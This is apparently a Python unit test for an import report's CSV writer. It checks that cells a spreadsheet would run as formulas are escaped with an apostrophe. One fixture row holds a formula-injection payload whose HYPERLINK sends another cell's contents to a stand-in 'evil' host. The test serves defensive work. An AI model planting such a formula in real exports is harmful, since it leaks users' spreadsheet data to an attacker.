"""The import report (API.md §0, §7): every cell a spreadsheet would run as a formula is
neutralised, through the one writer every CSV of the product uses."""

from __future__ import annotations

from chalicelib.domain.imports import Outcome
from chalicelib.services.imports.outcome import Row, report_lines


def test_the_report_neutralises_every_cell_a_spreadsheet_would_run() -> None:
    rows = [
        Row(2, '=HYPERLINK("http://evil/?"&C3,"Open")&"@x.io', Outcome.FAILED, ("invalid_email", "-bad")),
        Row(3, "ann@acme.example", Outcome.CREATED),
    ]
    lines = report_lines(rows).decode().splitlines()
    assert lines[0].startswith("2,\"'=HYPERLINK(") and lines[0].endswith(",failed,invalid_email,'-bad")
    assert lines[1] == "3,ann@acme.example,created,,"
